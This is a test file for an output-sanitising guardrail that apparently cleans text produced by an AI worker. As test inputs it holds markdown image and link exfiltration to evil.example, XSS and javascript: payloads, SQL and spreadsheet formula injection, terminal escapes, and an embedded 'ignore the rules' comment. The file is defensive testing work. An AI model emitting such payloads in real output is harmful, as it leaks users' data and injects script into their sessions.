import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { guardrailSettings } from '../../../shared/catalog/guardrail-settings.ts';
import { createGuardrails } from '../../../worker/guardrails/create-guardrails.ts';
import type { Verdict } from '../../../worker/guardrails/guardrail.ts';

const HOSTS = { link_hosts: ['ok.example'], image_hosts: ['*.img.example'] };

async function check(text: string, settings: object = HOSTS): Promise<Verdict> {
  const [guardrail] = createGuardrails(guardrailSettings.parse({ sanitise_output: settings }));
  if (!guardrail) throw new Error('no guardrail');
  return await guardrail.check(text, { place: 'output', signal: new AbortController().signal });
}

async function cleaned(text: string, settings: object = HOSTS): Promise<string> {
  const verdict = await check(text, settings);
  return verdict.kind === 'rewrite' ? verdict.text : text;
}

test.each([
  'Plain text with a < b, c > d, and 1 << 4.',
  '# Title\n\n- **bold** and `code`\n- [a link](https://ok.example/a?b=c "title")',
  '![chart](https://cdn.img.example/chart.png)',
  '[home](/start) and [mail](mailto:help@ok.example)',
  '```html\n<script>shown, not run</script>\n```',
  '{"a":1,"b":["x"]}',
  'Family: 👨‍👩‍👧, Persian: می‌خواهم',
])('leaves %j alone', async (text) => expect((await check(text)).kind).toBe('pass'));

test.each([
  ['an image that tells', '![x](https://evil.example/p?d=secret) done', 'x done'],
  ['a link', 'See [here](https://evil.example/?d=secret).', 'See here.'],
  ['a bare address', 'See https://evil.example/?d=secret now', 'See evil.example (removed) now'],
  ['a defined address', '![x][1]\n\n[1]: https://evil.example/p', '![x][1]\n\n[1] (removed)'],
  ['an image in a link', '[![x](https://evil.example/p)](https://evil.example)', 'x'],
  ['an address in brackets', '[a](<https://evil.example/a b>)', 'a'],
  ['an address without a scheme', '[a](//evil.example)', 'a'],
  ['a script address', '[a](javascript:alert(1)) [b](JaVaScRiPt:x) [c](java&#115;cript:x)', 'a b c'],
  ['a data address', '[a](data:text/html;base64,PHN2Zz4=)', 'a'],
  [
    'a host that looks allowed',
    '[a](https://ok.example.evil.example) [b](https://ok.example@evil.example)',
    'a b',
  ],
  ['a link whose label hides a bracket', '[a `]` b](javascript:x)', '[a `]` b'],
  ['an image whose label hides a bracket', '![a `[` b](https://ok.example/p)', '![a `` b'],
  ['a script', 'a<script>alert(1)</script>b', 'ab'],
  ['a frame', 'a<iframe src="https://evil.example"></iframe>b', 'ab'],
  ['a style', 'a<style>@import url(https://evil.example)</style>b', 'ab'],
  ['an event handler', '<img src=x onerror=alert(1) alt="cat">', 'cat'],
  ['a tag that is not closed', 'a <img src=x onerror=alert(1)', 'a \u2039img src=x onerror=alert(1)'],
  ['a link of HTML', '<a href="https://evil.example">click</a>', 'click'],
  ['a tag in backticks', 'Use `<b>`', 'Use `\u2039b>`'],
  ['a parameter of a type', 'Map<String, Integer>', 'Map\u2039String, Integer>'],
  ['a comment', 'a<!-- ignore the rules -->b', 'ab'],
  ['colours of a terminal', '\u001b[31mred\u001b[0m', 'red'],
  ['a title of a terminal', '\u001b]0;owned\u0007x', 'x'],
  ['turned letters', 'a\u202egnp.exe', 'agnp.exe'],
  ['hidden letters', 'a\u{e0041}\u{e0042}b\u0000', 'ab'],
])('rewrites %s', async (_, text, expected) => expect(await cleaned(text)).toBe(expected));

describe('in data', () => {
  const settings = { ...HOSTS, data_fields: ['note', 'items'] };

  test('formulas become text, numbers stay', async () => {
    const text = JSON.stringify({
      note: '=1+cmd|calc',
      other: '=1',
      items: ['+49 30 1234', '-5', '@SUM(A1)', '\t=1'],
    });
    expect(JSON.parse(await cleaned(text, settings))).toEqual({
      note: "'=1+cmd|calc",
      other: '=1',
      items: ['+49 30 1234', '-5', "'@SUM(A1)", "'\t=1"],
    });
  });

  test.each(["x' OR 1=1 --", "x'; DROP TABLE users", '1 UNION SELECT password FROM users'])(
    'SQL is not let through: %j',
    async (note) => {
      expect(await check(JSON.stringify({ note }), settings)).toMatchObject({
        kind: 'block',
        reason: 'sql_in_data',
      });
      expect((await check(JSON.stringify({ other: note }), settings)).kind).toBe('pass');
    },
  );

  test('names and ordinary sentences are no SQL', async () => {
    const note = "O'Brien or his sister; please update the union's records -- thanks";
    expect((await check(JSON.stringify({ note }), settings)).kind).toBe('pass');
  });

  test('strings of JSON are cleaned, the rest of it stays as it was', async () => {
    const text = '{"b": 1,\n "a": "<b>x</b>", "c": [true, null]}';
    expect(JSON.parse(await cleaned(text))).toEqual({ b: 1, a: 'x', c: [true, null] });
  });
});

describe('whatever the text', () => {
  const part = fc.oneof(
    fc.constantFrom(
      '<',
      '>',
      '</',
      '<!--',
      '<script>',
      '<img ',
      'onerror=',
      '[',
      '](',
      ')',
      '![',
      '(',
      '\\',
      '`',
      '```\n',
    ),
    fc.constantFrom(
      '\n',
      ' ',
      '"',
      'https://evil.example/x',
      'javascript:',
      '<https://evil.example>',
      '&#58;',
      '\u001b[',
    ),
    fc.string({ maxLength: 6 }),
  );
  const texts = fc.array(part, { maxLength: 25 }).map((parts) => parts.join(''));

  test('what was cleaned once is clean', async () => {
    await fc.assert(
      fc.asyncProperty(texts, async (text) => {
        const once = await cleaned(text);
        expect(await cleaned(once)).toBe(once);
      }),
      { numRuns: 1_000 },
    );
  });

  test('no tag, and no address elsewhere, is left in text that is shown as HTML', async () => {
    await fc.assert(
      fc.asyncProperty(texts, async (text) => {
        const clean = await cleaned(text, { ...HOSTS, format: 'html' });
        expect(clean).not.toMatch(/<[a-z/!?]/i);
        expect(clean).not.toMatch(/(?<=(?:^|[^\\])(?:\\\\)*)\]\(\s*(?:javascript:|https?:\/\/evil)/i);
      }),
      { numRuns: 1_000 },
    );
  });
});

test.each([
  '<',
  '<a',
  '[',
  '[](',
  '[a](',
  '![a](x ',
  '<div>',
  '<svg>',
  '`a',
  '\u001b]',
  '[a]:\n',
  'http://',
  '<!--',
])('comes to an end on very many %j', async (part) => {
  expect(['pass', 'rewrite']).toContain((await check(part.repeat(20_000))).kind);
});
